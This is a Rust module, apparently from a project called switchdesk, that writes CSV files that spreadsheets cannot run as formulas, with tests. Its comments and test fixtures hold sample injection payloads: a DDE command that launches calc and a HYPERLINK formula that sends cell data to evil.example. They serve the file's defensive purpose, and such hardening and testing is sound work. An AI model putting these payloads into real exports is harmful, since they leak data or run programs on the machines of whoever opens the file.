//! CSV that a spreadsheet opens as data, never as code: every CSV switchdesk writes goes
//! through [`Writer`]. Excel, LibreOffice and Google Sheets run a cell that starts with `=`,
//! `+`, `-` or `@` as a formula (`=HYPERLINK(...)` leaks data, `=cmd|' /C calc'!A0` runs a
//! program through DDE), and a leading tab or carriage return can hide such a start. So, as
//! OWASP's "CSV Injection" page recommends, such a cell gets a leading `'`, which makes the
//! spreadsheet show the rest as text; and every field is quoted, so that a spreadsheet
//! splitting on `;` (the list separator of many locales) cannot cut a cell in two and start
//! a new one with `=`.
//!
//! Numbers stay numbers: a cell that is only a phone number (`+7 (495) 123-45-67`,
//! `+74951234567`) or a negative amount (`-1`, `-12.50`) is left as it is; no formula can be
//! written with digits, spaces, parentheses and a sign alone.
//!
//! [`restore`] undoes [`defuse`] exactly, so the phone book's export imports back unchanged:
//! it removes one leading `'` only when the text after the leading quotes starts a formula,
//! and [`defuse`] adds one to such a text even when it already starts with `'`.
//!
//! Two [`Dialect`]s: `,` with a decimal point (RFC 4180, what every program reads), and `;`
//! with a decimal comma, what Excel expects where the locale writes `1,5` (Russian among
//! them): there a cell that is a decimal number (`12.50`, `-0.25`) is written `12,50`, so
//! the spreadsheet reads a number and not a date or text. Downloads start with a UTF-8 byte
//! order mark ([`BOM`]), without which Excel reads UTF-8 as the locale's code page.

use std::borrow::Cow;
use std::io::Write;

/// What makes a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// What a spreadsheet opening a UTF-8 file needs in front of it to read it as UTF-8.
pub const BOM: &str = "\u{feff}";

/// How cells are separated and decimals written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Dialect {
    /// `,` between cells, `1.5`.
    #[default]
    Comma,
    /// `;` between cells, `1,5`: for locales with a decimal comma.
    Semicolon,
}

impl Dialect {
    /// The dialect named `comma` or `semicolon`.
    pub fn parse(name: &str) -> Option<Dialect> {
        match name {
            "comma" => Some(Dialect::Comma),
            "semicolon" => Some(Dialect::Semicolon),
            _ => None,
        }
    }

    /// The dialect a locale's spreadsheet opens by double click: `;` where its decimal
    /// mark is a comma.
    pub fn for_decimal_mark(mark: char) -> Dialect {
        if mark == ',' {
            Dialect::Semicolon
        } else {
            Dialect::Comma
        }
    }

    fn separator(self) -> u8 {
        match self {
            Dialect::Comma => b',',
            Dialect::Semicolon => b';',
        }
    }

    /// The cell as this dialect writes it: a decimal number with the dialect's mark.
    fn localize(self, cell: &str) -> Cow<'_, str> {
        if self == Dialect::Semicolon && is_decimal(cell) {
            Cow::Owned(cell.replacen('.', ",", 1))
        } else {
            Cow::Borrowed(cell)
        }
    }
}

/// A CSV writer whose every field is defused and quoted.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
    dialect: Dialect,
}

impl<W: Write> Writer<W> {
    /// A `,` writer.
    pub fn new(output: W) -> Writer<W> {
        Writer::with_dialect(output, Dialect::Comma)
    }

    pub fn with_dialect(output: W, dialect: Dialect) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Always)
                .delimiter(dialect.separator())
                .from_writer(output),
            dialect,
        }
    }

    /// Writes one row, each cell defused.
    pub fn write_row<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let dialect = self.dialect;
        self.inner.write_record(
            cells
                .into_iter()
                .map(|cell| defuse(&dialect.localize(cell.as_ref())).into_owned()),
        )
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The output, flushed.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

/// The cell as it is safe to write: with a leading `'` when a spreadsheet would read it as a
/// formula (see the module's notes).
pub fn defuse(cell: &str) -> Cow<'_, str> {
    let starts_formula = |text: &str| text.starts_with(FORMULA_START);
    let guarded = if starts_formula(cell) {
        !is_plain_number(cell)
    } else {
        cell.starts_with('\'') && starts_formula(cell.trim_start_matches('\''))
    };
    if guarded {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`defuse`]; other text is left alone (a file from elsewhere
/// whose cell reads `'=1` becomes `=1`, which is what its author typed in the spreadsheet).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// Digits, one `.` and digits, perhaps after a `-`: what the reports write for amounts,
/// hours and rates.
fn is_decimal(cell: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_digit());
    let unsigned = cell.strip_prefix('-').unwrap_or(cell);
    unsigned
        .split_once('.')
        .is_some_and(|(whole, fraction)| digits(whole) && digits(fraction))
}

/// `+` and a phone number's digits, spaces, dashes and parentheses; or `-` and an amount
/// (with a decimal point or comma).
fn is_plain_number(cell: &str) -> bool {
    let has_digit = |text: &str| text.chars().any(|c| c.is_ascii_digit());
    if let Some(number) = cell.strip_prefix('+') {
        return has_digit(number)
            && number
                .chars()
                .all(|c| c.is_ascii_digit() || " -()".contains(c));
    }
    if let Some(amount) = cell.strip_prefix('-') {
        let mut parts = amount.splitn(2, ['.', ',']);
        let whole = parts.next().unwrap_or("");
        let digits = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_digit());
        return digits(whole) && parts.next().is_none_or(digits);
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote_and_numbers_do_not() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'=HYPERLINK",
            ),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
            ("-1+1", "'-1+1"),
            ("+cmd|' /C calc'!A0", "'+cmd"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("'=1", "''=1"),
            ("''@x", "'''@x"),
        ] {
            assert!(
                defuse(cell).starts_with(written),
                "{cell:?} → {:?}",
                defuse(cell)
            );
        }
        for cell in [
            "+74951234567",
            "+7 (495) 123-45-67",
            "-1",
            "-12.50",
            "-12,50",
            "Acme Ltd",
            "'quoted",
            "a=b",
            "",
            "mobile:+79161234567; fax:+74951230099",
        ] {
            assert_eq!(defuse(cell), cell);
        }
    }

    #[test]
    fn restore_undoes_defuse_and_nothing_else() {
        for cell in [
            "=1+1",
            "'=1+1",
            "''=1",
            "+74951234567",
            "+1+1",
            "-5",
            "-5-5",
            "@x",
            "'",
            "''",
            "'text",
            "plain",
            "\t",
            "-",
        ] {
            assert_eq!(restore(&defuse(cell)), cell, "{cell:?}");
        }
        // Text from elsewhere that we did not quote is read as written...
        assert_eq!(restore("'hello"), "'hello");
        // ...except a quote in front of a formula, which is a spreadsheet's way to write text.
        assert_eq!(restore("'+7 495 123"), "+7 495 123");
    }

    #[test]
    fn the_semicolon_dialect_writes_decimal_commas_and_nothing_else_changes() {
        let mut writer = Writer::with_dialect(Vec::new(), Dialect::Semicolon);
        writer
            .write_row([
                "12.50",
                "-0.25",
                "3",
                "2026-12-07T10:00:00+00:00",
                "1.2.3",
                "+74951234567",
                "=1.5",
                "v.2",
            ])
            .unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(
            text,
            "\"12,50\";\"-0,25\";\"3\";\"2026-12-07T10:00:00+00:00\";\"1.2.3\";\"+74951234567\";\"'=1.5\";\"v.2\"\n"
        );
        let mut writer = Writer::new(Vec::new());
        writer.write_row(["12.50", "-0.25"]).unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(text, "\"12.50\",\"-0.25\"\n");
    }

    #[test]
    fn every_field_is_quoted_so_a_semicolon_cannot_start_a_cell() {
        let mut writer = Writer::new(Vec::new());
        writer.write_row(["Acme;=1+1", "-3", "=2"]).unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(text, "\"Acme;=1+1\",\"-3\",\"'=2\"\n");
    }
}
